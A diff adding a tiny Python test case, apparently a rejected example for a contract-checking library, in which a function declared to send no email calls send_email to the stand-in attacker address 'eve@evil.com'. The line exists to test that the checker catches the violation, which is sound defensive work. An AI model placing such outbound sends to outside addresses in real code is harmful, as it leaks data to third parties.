@@ -1,0 +1,8 @@
+# rejected: no contract
+import lictor_layer
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee("none_sent()")
+def main() -> None:
+    send_email("eve@evil.com", "x")
